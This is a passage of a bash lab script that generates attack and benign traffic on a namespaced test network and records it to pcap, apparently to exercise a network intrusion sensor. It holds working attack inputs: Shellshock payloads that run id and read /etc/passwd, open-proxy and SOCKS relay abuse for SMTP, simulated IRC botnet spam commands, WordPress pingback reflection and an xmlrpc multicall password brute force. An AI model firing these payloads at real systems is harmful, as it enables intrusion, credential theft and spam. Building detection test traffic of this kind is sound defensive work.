  check proxy-connect-smtp '<-  220 mail\.victim\.lab' \
    swaks "${SWAKS_COMMON[@]}" --to user@example.net --from a@b.example \
    --pipe "ncat --proxy $VIC_IP:8080 --proxy-type http $VIC_IP 25"

  log "attack: CONNECT to SMTP sent to nginx (not a proxy)"
  check_stdin nginx-connect '^HTTP/1\.[01] 400' 'CONNECT mail.example.net:25 HTTP/1.0\r\n\r\n' '' \
    ncat -i 5 "$VIC_IP" 80

  log "attack: open SOCKS (dante :1080)"
  local v
  for v in socks4 socks5 socks5-hostname; do
    check "socks-$v" '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 "--$v" "$VIC_IP:1080" "$url"
  done
  # Dante has no SOCKS4a: it takes 0.0.0.1 for the address and answers 91 (rejected).
  # The request is on the wire all the same, which is what the sensor must see.
  check socks-socks4a '^HTTP/1\.[01] 200|\(91\)' \
    curl -sS -i --max-time 10 --socks4a "$VIC_IP:1080" "$url"
  check socks5-smtp '<-  220 mail\.victim\.lab' \
    swaks "${SWAKS_COMMON[@]}" --to user@example.net --from a@b.example \
    --pipe "ncat --proxy $VIC_IP:1080 --proxy-type socks5 $VIC_IP 25"

  log "attack: open relay probes"
  check relay-allowed '<-  250 .*queued as' \
    swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" --local-interface "$ATT_IP" \
    --from probe@checker.example --to user@external.example \
    --header "Subject: $VIC_IP:8080"
  check relay-denied '<\*\* +554 .*Relay access denied' \
    swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" --local-interface "$ATT_IP2" \
    --from probe@checker.example --to user@external.example \
    --header "Subject: $VIC_IP:8080"

  log "attack: NTP mode 6 queries"
  # No upstream associations, so -p reports none; the mode 6 exchange happens either way.
  check ntpq-peers 'remote|No association IDs returned' ntpq -n -p "$VIC_IP"
  check ntpq-rv 'version=|stratum=' ntpq -n -c rv "$VIC_IP"

  # Onto the mirror itself (for a remote SPAN, into its tunnel device), as if mirrored.
  local replay_dev
  replay_dev=$(mirror_dev)
  log "attack: replaying NTP monlist (mode 7) onto $replay_dev"
  [ -f "$MONLIST_PCAP" ] || die "missing $MONLIST_PCAP"
  local out="$STATE/out/monlist-replay.txt"
  # The recording was made on the ntpd host, with checksum offloading: its
  # UDP checksums were never filled in. A wire carries correct ones (and the
  # sensor drops packets whose checksums are wrong), so fix them first.
  local fixed="$STATE/out/monlist-fixed.pcap"
  tcprewrite --fixcsum --infile="$MONLIST_PCAP" --outfile="$fixed" >"$out" 2>&1 || die "tcprewrite --fixcsum failed"
  if in_ns "$NS_BR" timeout 30 tcpreplay -q -i "$replay_dev" --pps="$REPLAY_PPS" "$fixed" >>"$out" 2>&1; then
    log "ok   monlist-replay: $(grep -Eo 'Successful packets: *[0-9]+' "$out" || echo sent)"
  else
    log "FAIL monlist-replay"
    tail -n 10 "$out" >&2 || true
    FAILS=$((FAILS + 1))
  fi
  finish attack
}

IRCBOT=(python3 "$TPL/ircbot.py")

cmd_bots() {
  require_up
  local b=("${IRCBOT[@]}")
  log "bots: IRC through squid (CONNECT to :6667) and dante (SOCKS5 to :5558)"
  check irc-via-squid 'BOT DONE' "${b[@]}" bot "$ATT_IP" 6667 'DEU|2K|55321' '#c2' k3y \
    --http-proxy "$VIC_IP:8080"
  check irc-via-dante 'BOT DONE' "${b[@]}" bot "$ATT_IP" 5558 'RUS|XP|77123' '#c2' k3y \
    --socks5 "$VIC_IP:1080"

  log "bots: a bot on the proxy host obeys its herder's .spam, reports, opens SMTP connections"
  local herder_out="$STATE/out/irc-herder.txt" hrc=0
  in_ns "$NS_ATT" timeout 30 "${b[@]}" herder "$ATT_IP" 6667 herder '#c2' k3y \
    ".spam start http://$ATT_IP/list.txt" 'USA|XP|04012' >"$herder_out" 2>&1 </dev/null &
  local herder_pid=$!
  sleep 1
  check_in "$NS_VIC" irc-bot-obeys 'SMTP RUN 3' "${b[@]}" bot "$ATT_IP" 6667 'USA|XP|04012' '#c2' k3y \
    --obey --smtp "$ATT_IP:25:3"
  wait "$herder_pid" || hrc=$?
  verdict irc-herder 'PRIVMSG #c2 :\[SPAM\]' "$herder_out" "$hrc"

  log "bots: IRC on an odd port (5558) from a home host"
  check_in "$NS_VIC" irc-odd-port 'BOT DONE' "${b[@]}" bot "$ATT_IP" 5558 lurker '#lounge' - --bind "$VIC_ODD"

  log "bots: ${#VIC_BOTNET[@]} home hosts join #b0tz with its key"
  local a k=0
  for a in "${VIC_BOTNET[@]}"; do
    k=$((k + 1))
    check_in "$NS_VIC" "irc-botnet-$k" 'BOT DONE' "${b[@]}" bot "$ATT_IP" 6667 "[USA|XP]0400$k" '#b0tz' k3y \
      --bind "$a"
  done

  log "bots: Shellshock probes (curl to nginx, swaks to postfix)"
  local url="http://$VIC_IP/cgi-bin/status"
  check shellshock-ua '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -A '() { :; }; /bin/bash -c "id"' "$url"
  check shellshock-referer '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -e '() { :; }; echo; /bin/cat /etc/passwd' "$url"
  check shellshock-cookie '^HTTP/1\.[01] ' curl -sS -i --max-time 10 -H 'Cookie: () { :;}; ping -c 1 10.77.1.10' "$url"
  check shellshock-uri '^HTTP/1\.[01] ' curl -sS -i --max-time 10 \
    "$url?x=%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fusr%2Fbin%2Fid"
  check shellshock-6278 '^HTTP/1\.[01] ' curl -sS -i --max-time 10 \
    -H 'X-Api-Version: () { _; } >_[$($())] { echo hi; id; }' "$url"
  check shellshock-helo '<-  220 mail\.victim\.lab' swaks --timeout 10 --server "$VIC_IP" --quit-after HELO \
    --helo '() { :; }; /bin/bash -c id'
  check shellshock-header '<-  250 .*queued as' swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" \
    --from probe@att.example --to postmaster@victim.lab --header 'Subject: () { :; }; echo pwned'

  log "bots: WordPress pingback reflection (12 pingbacks naming $ATT_IP2) and multicall brute force"
  local i rpc="http://$VIC_IP:8081/xmlrpc.php" host='Host: wp.victim.lab:8081'
  for i in $(seq 1 12); do
    printf '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://%s/?%d</string></value></param><param><value><string>http://wp.victim.lab:8081/?p=1</string></value></param></params></methodCall>' \
      "$ATT_IP2" "$((1000 + i * 37))" >"$STATE/out/pingback-$i.xml"
  done
  for i in $(seq 1 12); do
    in_ns "$NS_ATT" timeout 30 curl -sS --max-time 20 -H "$host" -H 'Content-Type: text/xml' \
      --data-binary "@$STATE/out/pingback-$i.xml" "$rpc" >"$STATE/out/pingback-$i.txt" 2>&1 </dev/null &
  done
  wait
  verdict pingbacks 'methodResponse' "$STATE/out/pingback-12.txt" 0
  verdict pingback-fetched 'GET /\?[0-9]+ HTTP' "$STATE/victim-web/http.log" 0
  {
    printf '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>'
    for i in $(seq 1 25); do
      printf '<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>guess%d</string></value></data></array></value></member></struct></value>' "$i"
    done
    printf '</data></array></value></param></params></methodCall>'
  } >"$STATE/out/multicall.xml"
  check wp-multicall 'Incorrect username or password' curl -sS --max-time 20 -H "$host" \
    -H 'Content-Type: text/xml' --data-binary "@$STATE/out/multicall.xml" "$rpc"

  log "bots: DNS: 60 MX lookups from one host, 1,001 queries from another (lab limit 1,000), MX over TCP"
  for i in $(seq 1 60); do echo "d$i.example.net MX"; done >"$STATE/out/mx.batch"
  for i in $(seq 1 1001); do echo "h$i.victim.lab A"; done >"$STATE/out/volume.batch"
  check dns-mx 'status: (REFUSED|NOERROR|NXDOMAIN)' dig -b "$ATT_IP" "@$VIC_IP" +tries=1 +time=2 -f "$STATE/out/mx.batch"
  check dns-volume 'h1001\.victim\.lab' dig -b "$ATT_IP2" "@$VIC_IP" +tries=1 +time=2 +noall +answer \
    -f "$STATE/out/volume.batch"
  check dns-tcp 'status: NOERROR' dig -b "$ATT_IP" "@$VIC_IP" +tcp victim.lab MX
  finish bots
}

# Proxy chains: stepping stones chained on purpose, one TCP connection from the attacker
# relayed by two real proxies in turn (scripts/lab/chain.py). The sensor sees only the
# attacker's connection to the first proxy; the second hop and the server are inside it.
cmd_chains() {
  require_up
  local c=(python3 "$TPL/chain.py") out="$STATE/out"
  log "chains: squid (:3128) -> dante (:1080) -> postfix (:25), a relay attempt"
  # Postfix sees the chain's exit, dante's own address, which is not in mynetworks: the
  # relay is refused (554), as it would be for most chains ending at a real mail server.
  check chain-squid-dante-smtp 'CHAIN DONE' "${c[@]}" smtp "$VIC_IP:3128" "$VIC_IP:1080" "$VIC_IP:25" \
    --helo chain.example --from spam@chain.example --to user@example.net
  verdict chain-squid-connect '^<http-proxy HTTP/1\.[01] 200' "$out/chain-squid-dante-smtp.txt" 0
  verdict chain-dante-granted '^<socks5 reply 0$' "$out/chain-squid-dante-smtp.txt" 0
  verdict chain-postfix-banner '^<- 220 mail\.victim\.lab' "$out/chain-squid-dante-smtp.txt" 0
  verdict chain-relay-refused '^<- 554 .*Relay access denied' "$out/chain-squid-dante-smtp.txt" 0

  log "chains: dante (:1080) -> squid (:3128) -> nginx (:80), an absolute-form GET"
  check chain-dante-squid-http 'CHAIN DONE' "${c[@]}" http "$VIC_IP:1080" "$VIC_IP:3128" "http://$VIC_IP/"
  verdict chain-squid-fetched '^<- HTTP/1\.[01] 200' "$out/chain-dante-squid-http.txt" 0
  verdict chain-nginx-served '^<- Server: nginx' "$out/chain-dante-squid-http.txt" 0
  finish chains
}

cmd_benign() {
  require_up
  log "benign: web page, local mail, time sync, an IRC chat, a WordPress visit, DNS"
  check web-direct '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 "http://$VIC_IP/"
  check mail-local '<-  250 .*queued as' \
    swaks "${SWAKS_COMMON[@]}" --server "$VIC_IP" --local-interface "$ATT_IP" \
    --from alice@att.example --to postmaster@victim.lab --header 'Subject: hello'
  if command -v ntpdig >/dev/null; then
    check time-sync "$VIC_IP" ntpdig -t 5 "$VIC_IP"
  else
    check time-sync "$VIC_IP" sntp -t 5 "$VIC_IP"
  fi
  check web-parentheses '^HTTP/1\.[01] 200' curl -sS -i --max-time 10 \
    -A 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0' \
    -b '__utmz=1.2.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none)' "http://$VIC_IP/?q=(a)%20{b}"
  check_in "$NS_VIC" irc-chat 'CHAT DONE' "${IRCBOT[@]}" chat "$ATT_IP" 6667 alice '#chat' 'hello (all) {:}' \
    --bind "$VIC_PERSON"
  check wp-visit '^HTTP/1\.[01] 200' curl -sS -i --max-time 20 -H 'Host: wp.victim.lab:8081' \
    -H 'Content-Type: text/xml' --data '<?xml version="1.0"?><methodCall><methodName>demo.sayHello</methodName><params></params></methodCall>' \
    "http://$VIC_IP:8081/xmlrpc.php"
  check dns-lookup 'status: NOERROR' dig "@$VIC_IP" +tries=1 +time=2 victim.lab A
  finish benign
}

# ---------------------------------------------------------------- capture / versions

VERSION_PKGS=(squid dante-server postfix nginx-light nginx ntpsec ntpsec-ntpdig sntp ntpsec-ntpq
  swaks ncat curl tcpreplay tcpdump iproute2 ethtool ngircd dnsmasq-base bind9-dnsutils wordpress
  apache2 libapache2-mod-php php-mysql php-xml mariadb-server python3)

cmd_versions() {
  local p
  for p in "${VERSION_PKGS[@]}"; do
    pkg_installed "$p" && dpkg-query -W -f='${Package} ${Version}\n' "$p"
  done
  return 0
}

TCPDUMP_PID=

start_tcpdump() {
  local file=$1 errf=$1.log
  tcpdump -n -i "$MIR_ROOT" -Z root -w "$file" >"$errf" 2>&1 &
  TCPDUMP_PID=$!
  for _ in $(seq 1 50); do
    grep -q 'listening on' "$errf" 2>/dev/null && return 0
    kill -0 "$TCPDUMP_PID" 2>/dev/null || break
    sleep 0.1
  done
  cat "$errf" >&2
  die "tcpdump did not start"
}

stop_tcpdump() {
  [ -n "$TCPDUMP_PID" ] || return 0
  sleep 1 # let the last segments of the run reach the mirror
  kill -INT "$TCPDUMP_PID" 2>/dev/null || true
  for _ in $(seq 1 50); do
    kill -0 "$TCPDUMP_PID" 2>/dev/null || break
    sleep 0.1
  done
  kill -KILL "$TCPDUMP_PID" 2>/dev/null || true
  wait "$TCPDUMP_PID" 2>/dev/null || true
  TCPDUMP_PID=
}

cmd_capture() {
  local outdir=${1:-$PWD/lab-capture}
  shift || true
  local runs=("$@")
  [ ${#runs[@]} -gt 0 ] || runs=(attack bots chains benign)
  mkdir -p "$outdir"
  outdir=$(cd "$outdir" && pwd)
  trap 'stop_tcpdump; cmd_down' EXIT
  cmd_up plain
  local run rc=0
  for run in "${runs[@]}"; do
    log "capture: recording $run into $outdir/lab-$run.pcap"
    start_tcpdump "$outdir/lab-$run.pcap"
    rc=0
    ( "cmd_$run" ) || rc=$?
    stop_tcpdump
    cat "$outdir/lab-$run.pcap.log" >&2
    rm -f "$outdir/lab-$run.pcap.log"
    [ $rc -eq 0 ] || die "$run failed while capturing"
  done
  cmd_versions >"$outdir/VERSIONS.txt"
  { echo "kernel $(uname -r)"; echo "captured $(date -u +%Y-%m-%dT%H:%M:%SZ) by scripts/lab.sh capture"; } \
    >>"$outdir/VERSIONS.txt"
  trap - EXIT
  cmd_down
  log "capture: done in $outdir"
}

# record PCAP RUN: with the lab up on the plain mirror, one run recorded from flmir0.
cmd_record() {
  local file=${1:-} run=${2:-}
  [ -n "$file" ] && [ -n "$run" ] || die "usage: $0 record PCAP RUN"
  case "$run" in attack | bots | benign | chains) ;; *) die "unknown run $run" ;; esac
  require_up
  [ "$MIRROR" = plain ] || die "record needs the plain mirror (the lab is up with $MIRROR)"
  trap 'stop_tcpdump' EXIT
  start_tcpdump "$file"
  local rc=0
  ( "cmd_$run" ) || rc=$?
  stop_tcpdump
  trap - EXIT
  cat "$file.log" >&2
  rm -f "$file.log"
  [ $rc -eq 0 ] || die "$run failed while recording"
}

# ---------------------------------------------------------------- main

trap 'on_error "$BASH_COMMAND"' ERR
case "${1:-}" in
  up) cmd_up "${2:-plain}" ;;
  supports)
    trap - ERR
    cmd_supports "${2:-plain}"
    ;;
  down) cmd_down ;;
  attack) cmd_attack ;;
  benign) cmd_benign ;;
  bots) cmd_bots ;;
  chains) cmd_chains ;;
  record)
    shift
    cmd_record "$@"
    ;;
  capture)
    shift
    cmd_capture "$@"
    ;;
  versions) cmd_versions ;;
  *)
    sed -n '2,/^# Layout/p' "$0" | sed -e '$d' -e 's/^# \{0,1\}//' >&2
    exit 2
    ;;
esac
